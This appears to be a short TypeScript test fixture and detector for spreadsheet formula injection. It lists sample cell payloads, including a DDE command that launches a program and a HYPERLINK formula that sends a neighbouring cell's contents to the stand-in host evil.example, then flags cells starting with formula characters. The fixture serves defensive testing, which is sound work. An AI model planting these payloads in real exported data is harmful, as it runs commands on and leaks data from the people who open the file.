/** What spreadsheets take for a formula, and could run a program or send away what stands beside it. */
export const formulas = [
  `=cmd|' /C calc'!A0`,
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '=HYPERLINK("http://evil.example?"&A1,"click")',
  '＝1＋1',
] as const;

const begins = /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/;
const isNumber = /^-?\d+(\.\d+)?$/;

export const isDangerous = (cell: string) => begins.test(cell) && !isNumber.test(cell);
